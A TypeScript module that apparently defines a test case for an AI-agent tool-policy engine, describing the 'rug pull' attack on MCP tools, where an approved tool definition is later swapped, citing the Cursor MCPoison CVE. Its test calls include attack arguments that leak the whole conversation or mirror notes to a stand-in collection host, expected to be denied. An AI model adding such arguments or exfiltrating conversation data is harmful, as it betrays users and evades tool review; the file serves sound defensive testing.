import { type AttackPattern, inputs } from '../pattern';

export const rugPull: AttackPattern = {
  slug: 'rug-pull',
  title: 'Rug pull',
  summary: 'A tool is harmless when it is approved and becomes something else afterwards.',
  how: [
    'Approval is given once, to a name. What stands behind the name can be changed at any time: the server sends another description, another schema or another program under the name that was approved, and clients that remember only the name go on trusting it.',
    'The change often adds an argument that carries something out, or words that steer the model. It can wait for a date, a user or the hundredth call.',
  ],
  cases: [
    {
      name: 'MCPoison, CVE-2025-54136',
      year: 2025,
      text: 'Cursor bound the approval of an MCP configuration to its name. A configuration in a shared repository, approved once while harmless, could be changed afterwards and its new command ran without another question.',
      source: {
        title: 'CVE-2025-54136 in the National Vulnerability Database',
        url: 'https://nvd.nist.gov/vuln/detail/CVE-2025-54136',
      },
    },
  ],
  classes: ['Read', 'Write', 'Execute'],
  stoppedBy:
    'the pinned definition: a changed tool is denied, and new arguments do not fit the reviewed schema',
  policy: {
    version: '1',
    default: 'deny',
    all_tools: { validate_arguments: true },
    tools: {
      get_fact_of_the_day: {},
      create_note: { limits: [{ counter: 'create_note_rate', window: 'minute', max: 30, scope: 'grant' }] },
    },
  },
  says: 'Both tools may be called with the arguments of the definition that a person reviewed, notes 30 times a minute; whatever a changed definition adds is denied.',
  beyond:
    'Definitions are pinned by a digest when they are reviewed. One that changes later is denied as drifted until somebody has looked at the change, word by word; this policy still holds where a server is set to let drifted tools on. What a server does behind an unchanged definition cannot be seen from outside.',
  tools: {
    get_fact_of_the_day: { class: 'Read', inputSchema: inputs({}) },
    create_note: { class: 'Write', inputSchema: inputs({ text: { type: 'string' } }) },
  },
  calls: [
    { tool: 'get_fact_of_the_day', by: 'work', expect: 'allow', rule: '/tools/get_fact_of_the_day' },
    {
      tool: 'get_fact_of_the_day',
      arguments: { conversation: 'Everything that was said so far' },
      by: 'attack',
      expect: 'deny',
      rule: '/all_tools/validate_arguments',
    },
    {
      tool: 'create_note',
      arguments: { text: 'Buy milk', mirror_to: 'https://collect.example' },
      by: 'attack',
      expect: 'deny',
      rule: '/all_tools/validate_arguments',
    },
  ],
};
